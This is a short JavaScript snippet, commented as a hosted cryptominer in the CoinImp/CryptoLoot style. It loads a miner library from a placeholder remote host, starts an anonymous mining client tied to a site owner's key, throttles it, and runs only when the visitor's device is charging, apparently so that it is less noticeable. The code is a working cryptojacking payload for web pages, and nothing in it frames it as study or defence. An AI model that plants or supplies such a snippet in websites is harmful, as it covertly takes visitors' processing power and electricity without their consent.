// A hosted-miner snippet in the CoinImp / CryptoLoot style: the client library from the
// miner's CDN, an anonymous client keyed to the site owner's account, a throttle, and a
// start only when the visitor is not on battery.
var _client;
(function () {
  var s = document.createElement("script");
  s.src = "https://www.hostingcloud-stats.invalid/JcVw.js";
  s.onload = function () {
    _client = new Client.Anonymous("8f1d6b2c7a0e4d39b5c2a91e0f3d7c6b5a4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c", {
      throttle: 0.3, c: "w", ads: 0
    });
    var go = function () { _client.start(); };
    if (navigator.getBattery) {
      navigator.getBattery().then(function (b) { if (b.charging) go(); });
    } else go();
  };
  document.getElementsByTagName("head")[0].appendChild(s);
})();
